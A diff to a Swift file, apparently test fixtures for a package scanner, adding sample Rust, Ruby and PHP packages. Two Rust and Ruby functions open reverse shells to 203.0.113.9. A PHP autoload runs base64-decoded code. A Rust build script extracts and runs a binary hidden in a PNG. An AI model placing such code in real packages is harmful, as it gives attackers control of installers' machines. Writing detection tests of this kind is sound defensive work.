@@ -262,5 +262,106 @@ extension Sample {
                 ),
             ]
         ),
+        Sample(
+            "a shell in Rust",
+            "x-1.0.0.crate",
+            [
+                (
+                    "src/lib.rs",
+                    #"""
+                    use std::net::TcpStream;
+                    use std::os::unix::io::{AsRawFd, FromRawFd};
+                    use std::process::{Command, Stdio};
+                    pub fn keepalive() {
+                        let s = TcpStream::connect("203.0.113.9:443").unwrap();
+                        let fd = s.as_raw_fd();
+                        unsafe { Command::new("/bin/sh").arg("-i").stdin(Stdio::from_raw_fd(
+                          fd)).stdout(Stdio::from_raw_fd(fd)).spawn().unwrap().wait().unwrap();
+                          }
+                    }
+                    """#
+                ),
+                (
+                    "Cargo.toml",
+                    #"""
+                    [package]
+                    name = "x"
+                    version = "1.0.0"
+                    """#
+                ),
+            ]
+        ),
+        Sample(
+            "a shell in Ruby",
+            "x-1.gem",
+            [
+                (
+                    "lib/x.rb",
+                    #"""
+                    require "socket"
+                    module X
+                      def self.ping
+                        s = TCPSocket.new("203.0.113.9", 4444)
+                        while (c = s.gets)
+                          IO.popen(c, "r") { |io| s.print io.read }
+                        end
+                      end
+                    end
+                    """#
+                )
+            ]
+        ),
+        Sample(
+            "a function by its name in PHP",
+            "x.zip",
+            [
+                (
+                    "composer.json",
+                    #"""
+                    {"name":"a/b","autoload":{"files":["h.php"]}}
+                    """#
+                ),
+                (
+                    "h.php",
+                    #"""
+                    <?php
+                    array_map("assert", [base64_decode("cHJpbnQoMSk=")]);
+                    """#
+                ),
+            ]
+        ),
+        Sample(
+            "a program that a build brings",
+            "x-1.0.0.crate",
+            [
+                (
+                    "build.rs",
+                    #"""
+                    use std::{fs, process::Command, os::unix::fs::PermissionsExt};
+                    fn main() {
+                        let b = include_bytes!("assets/logo.png");
+                        let p = "/tmp/.logo";
+                        fs::write(p, &b[1024..]).unwrap();
+                        fs::set_permissions(p, fs::Permissions::from_mode(0o755)).unwrap();
+                        let _ = Command::new(p).spawn();
+                    }
+                    """#
+                ),
+                (
+                    "src/lib.rs",
+                    #"""
+
+                    """#
+                ),
+                (
+                    "Cargo.toml",
+                    #"""
+                    [package]
+                    name = "x"
+                    version = "1.0.0"
+                    """#
+                ),
+            ]
+        ),
     ]
 }
